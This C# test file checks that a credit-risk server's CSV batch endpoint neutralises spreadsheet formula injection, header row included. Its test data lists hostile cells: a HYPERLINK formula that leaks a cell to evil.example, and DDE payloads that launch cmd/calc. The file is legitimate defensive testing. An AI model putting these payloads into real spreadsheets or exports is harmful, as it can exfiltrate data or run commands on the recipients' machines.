using System.Net;
using System.Text;
using System.Text.Json;
using CreditRisk.Testing;
using nietras.SeparatedValues;

namespace CreditRisk.Reliability.Tests;

/// <summary>
/// Issue 26, finding 5: the text/csv batch answer echoes the file's own cells, so a cell a spreadsheet would run as a
/// formula must come back neutralised (OWASP: a leading apostrophe), header included, while a number in a numeric
/// column stays the number it is.
/// </summary>
public sealed class CsvInjectionTests
{
    /// <summary>The red-team run's hostile cells: 7 in carried columns and 2 in the header.</summary>
    public static readonly string[] FormulaCells =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click for details\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ];

    public static readonly string[] FormulaHeaders = ["=cmd|' /C calc'!A0", "@note"];

    [Fact]
    public async Task Formula_cells_and_headers_come_back_neutralised_and_numbers_stay_numbers()
    {
        await using var server = await ServerProcess.StartAsync(BuiltServer.Dll, BuiltServer.Serving("german-credit"));
        var spec = BuiltServer.Spec("german-credit");
        var example = BuiltServer.Example("german-credit");
        var names = spec.Features.Select(f => f.Name).ToList();
        string Cell(string name) => name switch
        {
            // Numbers a spreadsheet must still read as numbers: a signed zero and a plus sign, both in range.
            "dependents" => "-0",
            "installmentRate" => "+4",
            _ => example.TryGetValue(name, out var v) ? (v.ValueKind == JsonValueKind.String ? v.GetString()! : v.GetRawText()) : "",
        };

        // One row per hostile cell, each in both extra columns (whose names are hostile too).
        var csv = new StringBuilder();
        csv.Append(string.Join(',', names.Concat(FormulaHeaders).Select(Quote))).Append("\r\n");
        foreach (var hostile in FormulaCells)
        {
            csv.Append(string.Join(',', names.Select(Cell).Concat([hostile, hostile]).Select(Quote))).Append("\r\n");
        }

        using var content = new StringContent(csv.ToString(), Encoding.UTF8, "text/csv");
        using var response = await server.Client.PostAsync(new Uri(Hostile.Batch, UriKind.Relative), content);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {text}");

        var rows = Parse(text);
        var header = rows[0];
        Assert.Equal(FormulaHeaders.Select(h => "'" + h), header.Skip(names.Count).Take(FormulaHeaders.Length));
        Assert.Equal(FormulaCells.Length + 1, rows.Count);
        for (var r = 0; r < FormulaCells.Length; r++)
        {
            var row = rows[r + 1];
            foreach (var column in new[] { names.Count, names.Count + 1 })
            {
                var echoed = row[column];
                Assert.True(echoed.StartsWith('\''), $"row {r + 1}: the hostile cell {JsonSerializer.Serialize(FormulaCells[r])} came back as {JsonSerializer.Serialize(echoed)}");
                // Exactly the cell with an apostrophe in front (leading whitespace may be trimmed on the way in).
                Assert.Equal(FormulaCells[r].TrimStart(' '), echoed[1..]);
            }

            Assert.Equal("-0", row[names.IndexOf("dependents")]);
            Assert.Equal("+4", row[names.IndexOf("installmentRate")]);
            var pd = double.Parse(row[header.ToList().IndexOf("probabilityOfDefault")], System.Globalization.CultureInfo.InvariantCulture);
            Assert.InRange(pd, 0, 1);
        }

        // And no cell anywhere starts like a formula unless it is a plain number in a numeric column.
        var numeric = header.Select(h => h == "probabilityOfDefault" || spec.Features.Any(f => f.Name == h && f.IsNumber)).ToArray();
        foreach (var row in rows)
        {
            for (var c = 0; c < row.Length; c++)
            {
                Assert.False(row[c].Length > 0 && "=+-@\t\r".Contains(row[c][0], StringComparison.Ordinal) && !(numeric[c] && double.TryParse(row[c], System.Globalization.CultureInfo.InvariantCulture, out _)),
                    $"column {header[c]}: {JsonSerializer.Serialize(row[c])}");
            }
        }
    }

    private static string Quote(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    /// <summary>The answer as a spreadsheet would split it: RFC 4180 quoting, nothing trimmed.</summary>
    private static List<string[]> Parse(string csv)
    {
        using var reader = Sep.Reader(o => o with { HasHeader = false, Unescape = true, DisableColCountCheck = true }).FromText(csv);
        var rows = new List<string[]>();
        foreach (var row in reader)
        {
            var cells = new string[row.ColCount];
            for (var c = 0; c < cells.Length; c++)
            {
                cells[c] = row[c].ToString();
            }

            rows.Add(cells);
        }

        return rows;
    }
}
